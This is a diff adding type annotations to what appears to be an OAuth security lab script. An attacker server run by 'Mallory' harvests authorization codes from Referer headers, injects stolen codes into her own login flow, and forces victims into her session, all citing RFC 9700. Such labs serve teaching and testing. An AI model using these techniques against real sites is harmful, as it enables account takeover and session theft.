@@ -7,7 +7,7 @@ from html.parser import HTMLParser
 from urllib.parse import parse_qs, urlencode, urlsplit
 
 import requests
-from flask import Flask, redirect, request
+from flask import Flask, Response, redirect, request
 from lab import ISSUER, bare, serve
 
 fonts = Flask("fonts")
@@ -18,7 +18,7 @@ STYLE = "body { font-family: serif }\n", {"Content-Type": "text/css"}
 
 
 @fonts.get("/letters.css")
-def letters():
+def letters() -> tuple[str, dict[str, str]]:
     """The page that asks tells its address, code included (RFC 9700 §4.2). Its script waits until it has the style."""
     page = urlsplit(request.headers.get("Referer", ""))
     code = parse_qs(page.query).get("code")
@@ -27,7 +27,7 @@ def letters():
     return STYLE
 
 
-def inject(code):
+def inject(code: str) -> None:
     """The code to the only one who can redeem it, as the end of a login that Mallory has begun: RFC 9700 §4.5."""
     with requests.Session() as mine:
         mine.headers["User-Agent"] = "a browser of Mallory's"
@@ -38,7 +38,7 @@ def inject(code):
     print(f"injected code: {told.status_code} {told.text}", flush=True)
 
 
-def redeem(code):
+def redeem(code: str) -> None:
     """The code as its owner would redeem it; what comes of it is used at once."""
     form = {"grant_type": "authorization_code", "client_id": "spa", "redirect_uri": HERE, "code": code}
     told = requests.post(f"{ISSUER}/token", data=form, headers=ALONE, timeout=10)
@@ -52,14 +52,15 @@ def redeem(code):
 class Form(HTMLParser):
     """Where a page's form goes, and what is ticked in it."""
 
-    def __init__(self, page):
+    def __init__(self, page: str) -> None:
         super().__init__()
-        self.action, self.ticked = "", []
+        self.action = ""
+        self.ticked: list[tuple[str, str]] = []
         self.feed(page)
 
-    def handle_starttag(self, tag, attrs):
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
         """HTMLParser calls this for each tag."""
-        said = dict(attrs)
+        said = {name: value or "" for name, value in attrs}
         if tag == "form":
             self.action = said["action"]
         elif said.get("type") == "checkbox":
@@ -67,12 +68,12 @@ class Form(HTMLParser):
 
 
 @fonts.get("/kittens")
-def kittens():
+def kittens() -> Response:
     """Whoever comes here is sent on to the application, with a code that Mallory has just got for herself."""
     return redirect(own_code())
 
 
-def own_code():
+def own_code() -> str:
     """Mallory logs in to the application under her own name, and stops before the last redirect."""
     with requests.Session() as mine:
         page = mine.get("https://app.example.test/login", timeout=10)
